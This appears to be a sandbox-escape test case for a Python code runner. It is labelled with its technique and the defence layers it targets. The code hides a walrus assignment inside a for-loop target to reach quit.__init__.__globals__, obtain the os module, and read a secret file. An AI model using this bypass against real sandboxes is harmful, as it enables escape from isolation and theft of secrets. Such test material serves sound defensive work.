# class: object graph walk
# technique: a forbidden attribute in the target of a for
# layers: analyzer, interpreter, landlock, seccomp, identity
# code: user
# witness: secret
host = _items[0]["json"]
box = [0]
for box[(g := quit.__init__.__globals__) and 0] in (1,):
    pass
os = g["sys"].modules["os"]
return [{"json": {"reached": os.read(os.open(host["secret"], 0), 4096).decode()}}]
